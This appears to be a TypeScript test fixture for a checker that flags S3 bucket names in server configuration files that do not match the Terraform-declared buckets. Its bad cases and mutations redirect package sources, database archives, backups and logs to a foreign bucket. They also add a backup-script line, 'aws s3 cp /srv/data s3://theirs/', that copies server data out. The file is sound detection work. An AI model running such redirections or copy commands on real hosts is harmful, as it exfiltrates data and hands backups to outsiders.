import type { Examples } from "../../engine/example.ts";
import { inFile, type Mutation } from "../../engine/mutation.ts";

const resources = { aws_s3_bucket: { packages: { bucket: "shop-packages" }, vault: { bucket: "shop-vault" } } };
const file = (path: string, text: string) => ({ resources, hosts: { web: { [path]: text } } });

export const examples: Examples = {
  good: [
    {
      title: "buckets of Terraform, in the words of each program",
      resources,
      hosts: {
        web: {
          "/etc/apt/sources.list.d/x.sources": "# s3://old\nURIs: s3://shop-packages/debian\n",
          "/etc/pgbackrest.conf": "[global]\nrepo1-s3-bucket=shop-vault\n",
          "/etc/platform/tasks.json": '{"tasks": [{"does": {"bucket": "shop-vault"}}]}',
          "/etc/loki.yaml": "s3:\n  bucket_name: shop-vault\n",
        },
      },
    },
  ],
  bad: [
    {
      title: "packages of a stranger",
      ...file("/etc/apt/sources.list.d/x.sources", "URIs: s3://theirs/debian\n"),
      finds: ["web:/etc/apt/sources.list.d/x.sources bucket"],
    },
    {
      title: "a database's archive, and backups",
      resources,
      hosts: {
        web: {
          "/etc/pgbackrest.conf": "[global]\nrepo1-s3-bucket=theirs\n",
          "/etc/platform/tasks.json": '{"tasks": [{"does": {"bucket": "theirs"}}]}',
        },
      },
      finds: ["web:/etc/pgbackrest.conf bucket", "web:/etc/platform/tasks.json bucket"],
    },
    {
      title: "a script that carries something out",
      ...file("/usr/local/sbin/x", "#!/bin/sh\naws s3 cp /srv/data s3://theirs/\n"),
      finds: ["web:/usr/local/sbin/x bucket"],
    },
  ],
  unknown: [],
};

export const mutations: readonly Mutation[] = [
  inFile(/platform\.sources$/, "install a stranger's packages", /s3:\/\/[\w-]+/, "s3://theirs"),
  inFile(/pgbackrest\.conf$/, "archive to a stranger", /^repo1-s3-bucket=.*$/m, "repo1-s3-bucket=theirs"),
  inFile(/platform\/tasks\.json$/, "leave backups with a stranger", /"bucket": "[^"]*"/, '"bucket": "theirs"'),
  inFile(/loki\.yaml$/, "keep logs with a stranger", /bucket_name: .*/, "bucket_name: theirs"),
  inFile(/backup\.sh$/, "carry data out", /$/, "aws s3 cp /srv/data s3://theirs/\n"),
];
